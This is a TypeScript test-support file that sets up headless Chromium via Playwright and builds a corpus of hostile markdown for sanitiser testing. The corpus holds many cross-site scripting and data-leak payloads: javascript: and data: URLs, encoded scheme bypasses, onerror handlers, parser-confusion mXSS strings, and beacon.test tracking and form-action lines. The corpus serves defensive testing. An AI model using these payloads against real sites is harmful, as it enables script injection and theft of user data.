/**
 * What a browser test needs: a Chromium to open pages in, and the hostile markdown to show it.
 * Playwright is loaded only when a browser is asked for, so unit tests can use the corpus cheaply.
 */
import { execFile } from "node:child_process";
import { access, constants } from "node:fs/promises";
import { delimiter, join } from "node:path";
import { promisify } from "node:util";
import type { Browser } from "playwright-core";

const run = promisify(execFile);

const names = ["chromium", "chromium-browser", "google-chrome"];
const advice =
  "install Chromium with `apt-get install -y --no-install-recommends chromium fonts-liberation`, " +
  "or set SCRIPTORIUM_CHROMIUM to the path of a Chromium or Chrome executable";

const flags = [
  "--no-sandbox",
  "--disable-gpu",
  "--disable-quic",
  "--no-first-run",
  "--disable-background-networking",
  "--disable-component-update",
  "--disable-sync",
];

/** A running browser, or the sentence that says what to install. Whoever gets the browser closes it. */
export async function chromium(): Promise<{ browser: Browser } | { missing: string }> {
  const wanted = process.env.SCRIPTORIUM_CHROMIUM;
  if (wanted && !(await isExecutable(wanted))) {
    return { missing: `SCRIPTORIUM_CHROMIUM is ${wanted}, which cannot be run: ${advice}` };
  }

  const found = wanted || (await findChromium());
  const failure = found ? undefined : await install();
  const executablePath = found ?? (await findChromium());
  if (!executablePath) return { missing: `no Chromium on this machine${failure ?? ""}: ${advice}` };

  const playwright = await import("playwright-core");
  return { browser: await playwright.chromium.launch({ executablePath, headless: true, args: flags }) };
}

async function findChromium(): Promise<string | undefined> {
  const folders = (process.env.PATH ?? "").split(delimiter).filter(Boolean);
  const candidates = names.flatMap((name) => folders.map((folder) => join(folder, name)));
  for (const path of [...candidates, "/usr/bin/chromium"]) if (await isExecutable(path)) return path;
  return undefined;
}

async function isExecutable(path: string): Promise<boolean> {
  return access(path, constants.X_OK).then(
    () => true,
    () => false,
  );
}

// Test files run in parallel. The kernel gives the lock to one of them and takes it back when that
// process dies; the others wait, then find Chromium there and install nothing.
async function install(): Promise<string | undefined> {
  if (process.getuid?.() !== 0 || !(await isExecutable("/usr/bin/apt-get"))) return undefined;

  const steps =
    "test -x /usr/bin/chromium || { apt-get update && " +
    "apt-get install -y --no-install-recommends chromium fonts-liberation; }";
  const locked = ["-w", "300", "/tmp/scriptorium-chromium.lock", "timeout", "240", "sh", "-c", steps];
  return run("flock", locked, {
    env: { ...process.env, DEBIAN_FRONTEND: "noninteractive" },
    maxBuffer: 64 * 1024 * 1024,
  }).then(
    () => undefined,
    (error: Error & { code?: number | string }) => ` (apt-get could not install it, exit ${error.code})`,
  );
}

const urls = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "javascript://example.test/%0aalert(1)",
  "javascript&colon;alert(1)",
  "javascript&#58;alert(1)",
  "javascript&#x3A;alert(1)",
  "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
  "&#x6A&#x61&#x76&#x61script:alert(1)",
  "java&Tab;script:alert(1)",
  "java&NewLine;script:alert(1)",
  "java&#x09;script:alert(1)",
  "java\\script:alert(1)",
  "\u0001javascript:alert(1)",
  "&#x01;javascript:alert(1)",
  "\u200bjavascript:alert(1)",
  "%6Aavascript:alert(1)",
  "javascript:alert`1`",
  "javascript:window.onerror=alert;throw%201",
  "vbscript:msgbox(1)",
  "livescript:alert(1)",
  "feed:javascript:alert(1)",
  "view-source:javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg/onload=alert(1)>",
  "DATA:application/xhtml+xml,<x/>",
  "blob:http://127.0.0.1/x",
  "file:///etc/passwd",
  "http://beacon.test/pixel.png?secret=1",
  "//beacon.test/pixel.svg#x",
  "/\\beacon.test/pixel.png",
  'https://beacon.test/"onmouseover=alert(1)',
];

const urlWrappers: ((url: string) => string)[] = [
  (url) => `[click](${url})`,
  (url) => `[click](<${url}>)`,
  (url) => `[click](${url} "x\\" onmouseover=alert(1) \\"")`,
  (url) => `![alt](${url})`,
  (url) => `[![alt](${url})](${url})`,
  (url) => `<${url}>`,
  (url) => `[click][ref]\n\n[ref]: ${url}`,
  (url) => `![alt][ref]\n\n[ref]: <${url}> 'title'`,
  (url) => `| [a](${url}) | ![b](${url}) |\n| --- | --- |\n| <${url}> | ${url} |`,
  (url) => `note[^1]\n\n[^1]: [click](${url}) ![alt](${url})`,
  (url) => `[[${url}]] and [[${url}|label]]`,
  (url) => `- [ ] > # [click](${url})\n- [x] ![alt](${url})`,
];

const markup = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//beacon.test/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  '<img src="http://beacon.test/pixel.png">',
  '<img srcset="http://beacon.test/a.png 1x">',
  "<image src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert&#40;1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><image href="http://beacon.test/x.svg"/></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><script>alert(1)</script></template>",
  "<textarea></textarea><img src=x onerror=alert(1)>",
  "<title></title><img src=x onerror=alert(1)>",
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  "<plaintext><img src=x onerror=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  "<embed src=javascript:alert(1)>",
  '<base href="http://beacon.test/">',
  '<meta http-equiv=refresh content="0;url=http://beacon.test/">',
  '<link rel=stylesheet href="http://beacon.test/x.css">',
  '<link rel=prefetch href="http://beacon.test/x">',
  "<style>@import 'http://beacon.test/x.css';</style>",
  '<p style="background:url(http://beacon.test/x.png)">x</p>',
  '<div style="position:fixed;inset:0">cover</div>',
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=http://beacon.test/x.mp3 autoplay></audio>",
  '<form action="http://beacon.test/"><button>sign in</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  "<a href=javascript:alert(1) id=main name=body>x</a>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<![CDATA[><img src=x onerror=alert(1)>]]>",
  '<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>',
  "<x onpointerenter=alert(1) tabindex=1 onfocus=alert(1) autofocus>x</x>",
  "<a\u000bonclick=alert(1)\u000chref=x>x</a>",
  "&lt;img src=x onerror=alert(1)&gt;",
  "\\<img src=x onerror=alert(1)\\>",
];

const markupWrappers: ((html: string) => string)[] = [
  (html) => html,
  (html) => `words ${html} words`,
  (html) => `> - ${html}\n>   ${html}`,
  (html) => `| head |\n| --- |\n| ${html} |`,
  (html) => `# ${html}\n\n${html}\n===`,
  (html) => `[${html}](http://example.test "${html}") ![${html}](x)`,
  (html) => `note[^1]\n\n[^1]: ${html}`,
  (html) => `\`\`\`${html}\n${html}\n\`\`\`\n\`${html}\``,
  (html) => `[[${html}]] and [[id|${html}]]`,
  (html) => `- [ ] ${html}\n- [x] *${html}* ~~${html}~~`,
  (html) => `\`\`\`mermaid\ngraph TD; a-->b; click a "javascript:alert(1)" "${html}"\n\`\`\`\n\n$$${html}$$`,
];

/** Markdown that tries to run a script, load something, or pass for a part of the page. */
export const hostileMarkdown: string[] = [
  ...urls.flatMap((url) => urlWrappers.map((wrap) => wrap(url))),
  ...markup.flatMap((html) => markupWrappers.map((wrap) => wrap(html))),
];
